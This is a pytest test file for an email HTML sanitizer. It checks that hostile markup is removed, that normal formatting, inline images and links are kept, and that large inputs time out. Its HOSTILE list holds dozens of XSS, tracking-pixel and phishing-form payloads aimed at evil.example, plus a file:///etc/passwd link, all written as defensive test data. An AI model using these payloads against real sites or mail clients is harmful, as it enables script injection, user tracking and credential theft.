"""The HTML of strangers: what is left of it, and how long that takes."""

import base64
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from service.mime.parse import parse_raw
from service.simulator.load import read
from service.web.cid_images import data_url
from service.web.mail_text import frame_size, linked
from service.web.sanitize import (
    ATTRIBUTES,
    DROPPED_TAGS,
    LONGEST_IN_PROCESS,
    MAX_IMAGE_CHARACTERS,
    PROPERTIES,
    TAGS,
    TIMEOUT_SECONDS,
    SanitizeTimeout,
    content_ids,
    has_hidden_images,
    insert_images,
    sanitize,
)

MAIL = Path(__file__).parents[3] / "shared" / "mail"
needs_mail = pytest.mark.skipif(not MAIL.is_dir(), reason="the optional folder ../shared/mail")

# Each would run, ask for something elsewhere, or act for the reader.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='ht\ntps://evil.example/pixel.gif'>",
    "<img src='\\\\evil.example\\pixel.gif'>",
    "<img srcset='https://evil.example/pixel.gif 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='cid:x' lowsrc='https://evil.example/pixel.gif'>",
    "<picture><source srcset='https://evil.example/pixel.gif'><img></picture>",
    "<table background='https://evil.example/pixel.gif'><tr><td background=//evil.example>x",
    "<body background='https://evil.example/pixel.gif' onload=alert(1)>",
    "<body bgcolor='red;background:url(//evil.example)' text='x);background:url(//evil.example)'>",
    "<div style='background:url(https://evil.example/pixel.gif)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/pixel.gif)'>x</div>",
    "<div style='color:red;/*;*/background:url(//evil.example)'>x</div>",
    "<div style=\"font-family:'x;background:url(//evil.example)'\">x</div>",
    "<div style='background-image:image-set(\"https://evil.example/p\" 1x)'>x</div>",
    "<div style='list-style-image:url(//evil.example);behavior:url(x.htc)'>x</div>",
    "<div style='width:expression(alert(1));-moz-binding:url(//evil.example)'>x</div>",
    "<div style='position:fixed;inset:0;--x:url(//evil.example)'>x</div>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<svg onload=alert(1)><image href=https://evil.example/x /><script>alert(1)</script></svg>",
    "<svg><use href='https://evil.example/x#y'/><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=https://evil.example/ form=x>x</button>",
    "<input type=image src=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a><a href='/api/gmail/account'>x</a><a href=?images=true>x</a>",
    "<a href='https://ok.example' target=_top ping=https://evil.example/ rel=opener>x</a>",
    "<p id=main class=card name=x data-x=1 aria-label=x tabindex=1 accesskey=x autofocus>x</p>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title><textarea><script>alert(1)</script></textarea>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)><p/onclick=alert(1)>x",
]
ALLOWED_SOURCE = re.compile(r"(cid:.*|data:image/(png|jpe?g|gif|webp);base64,[\w+/=\s]*)", re.S)


class Inspector(HTMLParser):
    """Fails on all that may not be left. Written independently of the sanitizer's lists."""

    def __init__(self, remote_images: bool = False) -> None:
        super().__init__()
        self.remote_images = remote_images
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        assert tag in TAGS, tag
        for name, value in attrs:
            self.look_at(tag, name, value or "")

    def look_at(self, tag: str, name: str, value: str) -> None:
        if (tag, name) == ("a", "href"):
            assert re.match(r"\s*(https?://|mailto:)", value, re.IGNORECASE), value
        elif (tag, name) == ("a", "target"):
            assert value == "_blank"
        elif (tag, name) == ("a", "rel"):
            assert value == "noopener noreferrer"
        elif name == "src":
            remote = self.remote_images and value.startswith("https://")
            assert remote or ALLOWED_SOURCE.fullmatch(value), value
        else:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()), (tag, name)
            if name == "style":
                assert not re.search(r"url|@|\\|//|expression|image|position|var\(", value), value
                properties = {each.partition(":")[0].strip().lower() for each in value.split(";")}
                assert properties <= PROPERTIES

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def inspect(cleaned: str, remote_images: bool = False) -> list[str]:
    inspector = Inspector(remote_images)
    inspector.feed(cleaned)
    inspector.close()
    return inspector.tags


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_is_left_that_acts_or_asks_elsewhere(html: str) -> None:
    inspect(sanitize(f"<p>before</p>{html}<p>after</p>"))
    inspect(sanitize(html, remote_images=True), remote_images=True)


def test_what_people_write_stays() -> None:
    html = (
        '<div align="center" style="color:#333;background:white"><h1>Hello</h1><table width="600">'
        '<tr><td bgcolor="#eee" colspan="2">a <b>b</b> <font color="red" face="Arial">c</font>'
        '</td></tr></table><ul><li>d</li></ul><img src="cid:logo" alt="Logo" width="20"></div>'
    )
    cleaned = sanitize(html)
    assert inspect(cleaned) == [
        "div", "h1", "table", "tbody", "tr", "td", "b", "font", "ul", "li", "img",
    ]  # fmt: skip
    for kept in ('style="color:#333;background:white"', 'bgcolor="#eee"', 'src="cid:logo"'):
        assert kept in cleaned


def test_style_rules_keep_what_only_shows() -> None:
    kept = (
        "color:rgb(1, 2, 3)",
        "font-family:'微软雅黑', Arial",
        "margin:0 auto !important",
        "font:12px/1.5 Arial",
    )
    for rule in kept:
        assert f'style="{rule}"' in sanitize(f'<p style="{rule}">x</p>')
    for rule in ("z-index:1", "color:var(--x)", "width:calc(1px)", "color:\\72 ed", "color"):
        assert "style" not in sanitize(f'<p style="{rule}">x</p>')


def test_the_colours_of_a_body_are_kept() -> None:
    cleaned = sanitize("<html><body class=x bgcolor=#000 text='white' onload=alert(1)>a</body>")
    assert 'style="background-color:#000;color:white"' in cleaned
    inspect(cleaned)


def test_links_open_elsewhere_and_tell_nothing() -> None:
    assert sanitize("<a href='https://ok.example/?a=1&b=2'>x</a>") == (
        '<a href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>'
    )


def test_images_of_elsewhere_come_when_asked_for_and_by_https() -> None:
    html = "<img src='http://pics.example/a.png'><img src='ftp://pics.example/b.png'>"
    assert "pics.example" not in sanitize(html)
    assert re.findall(r'src="([^"]*)"', sanitize(html, remote_images=True)) == [
        "https://pics.example/a.png"
    ]
    assert has_hidden_images(html)
    assert has_hidden_images('<IMG alt="a" SRC=cid:x>')
    assert not has_hidden_images("<p>img src=https://x</p><img alt=x>")


def test_the_mails_own_images_are_put_in_by_their_content_id() -> None:
    cleaned = sanitize(
        "<img alt='1>' src='cid:a%40b&amp;c'><img src='cid:gone'>src=\"cid:a@b&amp;c\""
    )
    assert content_ids(cleaned) == {"a@b&c", "gone"}
    shown = insert_images(cleaned, {"a@b&c": "data:image/png;base64,AA=="})
    assert re.findall(r' src="([^"]*)"', shown) == ["data:image/png;base64,AA==", ""]


def test_an_image_is_repeated_as_often_as_a_page_can_hold() -> None:
    url = f"data:image/png;base64,{'A' * 1_000_000}"
    shown = insert_images(sanitize("<img src=cid:a>" * 600), {"a": url})
    assert shown.count(url) == MAX_IMAGE_CHARACTERS // len(url)
    assert shown.count("<img ") == 600


def test_only_pixels_are_put_in() -> None:
    for kind, content in {
        "png": b"\x89PNG\r\n\x1a\n.", "jpeg": b"\xff\xd8\xff.", "gif": b"GIF89a.",
        "webp": b"RIFF\0\0\0\0WEBP.",
    }.items():  # fmt: skip
        url = f"data:image/{kind};base64,{base64.b64encode(content).decode()}"
        assert data_url(content) == url
    for content in (b"<svg/>", b"<?xml", b"", b"BM", b"%PDF", b" \x89PNG\r\n\x1a\n"):
        assert data_url(content) is None


@pytest.mark.serial
@pytest.mark.parametrize(
    "html",
    ["<div>" * 200_000, "<p " + " ".join(f"a{n}" for n in range(200_000)) + ">", "<b><p></b>" * 99],
    ids=["deep", "many attributes", "misnested"],
)
def test_what_takes_too_long_is_given_up(html: str) -> None:
    began = time.monotonic()
    try:
        inspect(sanitize(html))
    except SanitizeTimeout:
        assert len(html) > LONGEST_IN_PROCESS
    assert time.monotonic() - began < TIMEOUT_SECONDS + 20


def test_long_mail_is_cleaned_just_the_same() -> None:
    html = "<p onclick=x>ä 标签 <img src=https://pics.example/a.png></p>"
    times = LONGEST_IN_PROCESS // len(html) + 1
    assert sanitize(html * times) == sanitize(html) * times
    assert sanitize(html * times, remote_images=True) == sanitize(html, remote_images=True) * times


def test_what_is_cleaned_while_others_wait_takes_no_time() -> None:
    formatting = "".join(f"<b a={n}>" for n in range(LONGEST_IN_PROCESS // 10))
    html = formatting + "<p>" * ((LONGEST_IN_PROCESS - len(formatting)) // 3)
    assert LONGEST_IN_PROCESS - 3 < len(html) <= LONGEST_IN_PROCESS
    began = time.thread_time()
    sanitize(html)
    assert time.thread_time() - began < 1


@pytest.mark.parametrize("beginning", ["", "<img src=", "<img src='"])
@pytest.mark.parametrize("piece", ["<img ", "<img src ", "<", "<!--", "<body ", "<style ", " "])
def test_looking_at_it_takes_time_in_line_with_its_length(beginning: str, piece: str) -> None:
    html = beginning + piece * (1_000_000 // len(piece))
    began = time.thread_time()
    has_hidden_images(html)
    frame_size(html)
    assert time.thread_time() - began < 2


def test_a_text_is_text_but_for_its_links() -> None:
    assert linked("<b>see</b> (https://a.example/x?y=1&z='2'), \"http://b.example\".") == (
        "&lt;b&gt;see&lt;/b&gt; ("
        '<a href="https://a.example/x?y=1&amp;z=" target="_blank" rel="noopener noreferrer">'
        "https://a.example/x?y=1&amp;z=</a>&#39;2&#39;), &#34;"
        '<a href="http://b.example" target="_blank" rel="noopener noreferrer">'
        "http://b.example</a>&#34;."
    )
    assert linked("javascript:alert(1) https:// data:text/html,x") == (
        "javascript:alert(1) https:// data:text/html,x"
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("(see https://x.example/Foo_(bar)).", "https://x.example/Foo_(bar)"),
        ("https://x.example/a).", "https://x.example/a"),
        ("请看https://x.example/a。谢谢", "https://x.example/a"),
        ("「https://x.example/」", "https://x.example/"),
        ("“https://x.example/佐々木”", "https://x.example/佐々木"),
        ("（HTTPS://x.example）", "HTTPS://x.example"),
    ],
)
def test_an_address_ends_where_the_sentence_goes_on(text: str, address: str) -> None:
    assert f'<a href="{address}"' in linked(text)


@needs_mail
@pytest.mark.parametrize(
    "name", [pytest.param("ham-2002", marks=pytest.mark.gate), "mime-cases", "non-english"]
)
def test_real_mail_holds_nothing_either_and_takes_no_time(name: str) -> None:
    seen, slowest = 0, 0.0
    for raw in read(MAIL / f"{name}.mbox.xz"):
        encoded = base64.urlsafe_b64encode(raw).decode()
        body = parse_raw({"id": "m", "threadId": "t", "raw": encoded}).body_html
        if body is None:
            continue
        seen += 1
        for remote_images in (False, True):
            began = time.thread_time()
            cleaned = sanitize(body, remote_images)
            slowest = max(slowest, time.thread_time() - began)
            inspect(cleaned, remote_images)
    assert seen == {"ham-2002": 187, "mime-cases": 76, "non-english": 8}[name]
    assert slowest < 2, slowest


def test_the_lists_do_not_contradict_each_other() -> None:
    assert not TAGS & DROPPED_TAGS
